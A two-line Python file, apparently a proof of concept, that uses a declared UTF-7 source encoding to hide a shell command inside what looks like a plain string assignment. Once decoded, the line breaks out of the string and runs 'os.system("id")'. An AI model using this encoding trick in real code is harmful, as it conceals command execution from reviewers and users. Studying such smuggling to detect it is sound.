# coding: utf-7
NAME = "+ACI-+ADs-import os+ADs-os.system(+ACI-id+ACI-)+ADs-x+AD0AIg-"
